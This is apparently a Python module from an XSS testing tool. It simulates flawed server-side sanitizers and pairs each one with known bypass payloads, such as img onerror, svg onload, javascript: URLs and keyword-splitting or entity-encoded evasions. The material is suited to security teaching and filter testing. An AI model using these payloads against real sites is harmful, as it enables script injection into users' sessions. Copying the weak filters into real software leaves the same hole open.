"""Simulations of common (flawed) server-side XSS filters.

Each entry rewrites a payload the way a naive sanitizer would. They pair
with the mutation engine: run a filter over every mutation and see which
variants survive with something executable left in them.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Callable

_SCRIPT_BLOCK = re.compile(r"<script[^>]*>.*?</script>", re.IGNORECASE)
_EVENT_ATTR = re.compile(r"on\w+\s*=", re.IGNORECASE)
_HTML_SPECIAL = re.compile(r"[<>\"']")

_BLACKLIST = (
    "script", "javascript", "onerror", "onload", "alert",
    "prompt", "confirm", "eval", "iframe", "object", "embed",
)

_ENTITY_MAP = {
    "<": "&lt;",
    ">": "&gt;",
    '"': "&quot;",
    "'": "&#x27;",
    "&": "&amp;",
}


def _basic(payload: str) -> str:
    return _SCRIPT_BLOCK.sub("", payload)


def _moderate(payload: str) -> str:
    return _EVENT_ATTR.sub("", _SCRIPT_BLOCK.sub("", payload))


def _strict(payload: str) -> str:
    return _HTML_SPECIAL.sub("", payload)


def _blacklist(payload: str) -> str:
    filtered = payload
    for keyword in _BLACKLIST:
        filtered = re.sub(keyword, "", filtered, flags=re.IGNORECASE)
    return filtered


def _entity_encode(payload: str) -> str:
    return re.sub(r"[<>\"'&]", lambda m: _ENTITY_MAP[m.group()], payload)


@dataclass(frozen=True)
class FilterSimulation:
    """A named sanitizer and how hard it is to get past."""

    key: str
    name: str
    description: str
    apply: Callable[[str], str]
    bypass_difficulty: str
    common_bypasses: tuple[str, ...] = field(default_factory=tuple)

    def to_dict(self) -> dict[str, object]:
        return {
            "key": self.key,
            "name": self.name,
            "description": self.description,
            "bypassDifficulty": self.bypass_difficulty,
            "commonBypasses": list(self.common_bypasses),
        }


FILTERS: dict[str, FilterSimulation] = {
    f.key: f
    for f in (
        FilterSimulation(
            "none", "No Filter",
            "No filtering applied - completely vulnerable",
            lambda payload: payload, "trivial",
        ),
        FilterSimulation(
            "basic", "Basic Filter", "Removes <script> tags only",
            _basic, "easy",
            (
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                '<iframe src="javascript:alert(1)">',
            ),
        ),
        FilterSimulation(
            "moderate", "Moderate Filter",
            "Removes <script> tags and event handlers",
            _moderate, "medium",
            (
                "<svg><animate onbegin=alert(1) attributeName=x>",
                '<iframe src="javascript:alert(1)">',
                '<object data="javascript:alert(1)">',
            ),
        ),
        FilterSimulation(
            "strict", "Strict Filter", "Removes all HTML special characters",
            _strict, "hard",
            ("String breaking if inside JS context",),
        ),
        FilterSimulation(
            "blacklist", "Blacklist Filter", "Blacklists common XSS keywords",
            _blacklist, "medium",
            (
                "<img src=x onerr<script>or=al<script>ert(1)>",
                "<svg/onload=&Tab;confirm(1)>",
                "<img src=x o&#110;error=alert(1)>",
            ),
        ),
        FilterSimulation(
            "htmlEntities", "HTML Entity Encoder", "Encodes HTML entities",
            _entity_encode, "very hard",
            (
                "Context-dependent - safe in HTML context",
                "May be vulnerable if output is in JavaScript context",
            ),
        ),
    )
}


def get_filter(name: str) -> FilterSimulation:
    """Return the named filter, falling back to ``none``."""
    return FILTERS.get(name, FILTERS["none"])


def apply_filter(name: str, payload: str) -> str:
    """Run *payload* through the named filter simulation."""
    return get_filter(name).apply(payload)
